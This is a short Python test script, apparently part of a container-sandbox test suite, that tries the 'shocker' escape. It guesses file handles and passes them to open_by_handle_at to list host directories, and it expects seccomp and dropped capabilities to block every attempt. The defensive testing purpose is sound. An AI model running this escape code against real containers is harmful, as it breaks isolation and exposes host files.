# attack: opens files of the host by handle (open_by_handle_at, the "shocker" way)
# family: escape
# expect: blocked
# stops-it: seccomp, no capabilities
import ctypes
import errno
import os

import kit


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_char * 128)]


def own_handle():
    handle = Handle(128)
    mount = ctypes.c_int()
    kit.syscall("name_to_handle_at", kit.AT_FDCWD, "/", ctypes.byref(handle), ctypes.byref(mount), 0)
    return bytes(handle.bytes)


kit.attempt("name_to_handle_at", own_handle)
for inode in (1, 2, 11, 128, 256):
    def by_handle(root):
        handle = Handle(8, 1, inode.to_bytes(8, "little"))
        return os.listdir(kit.syscall("open_by_handle_at", root, ctypes.byref(handle), os.O_RDONLY))
    for path in ("/", "/tmp", "/proc"):
        root = os.open(path, os.O_RDONLY)
        kit.attempt(f"open_by_handle_at {inode} on {path}", lambda: by_handle(root),
                    also=[errno.ESTALE, errno.EOPNOTSUPP])
        os.close(root)
kit.finish()
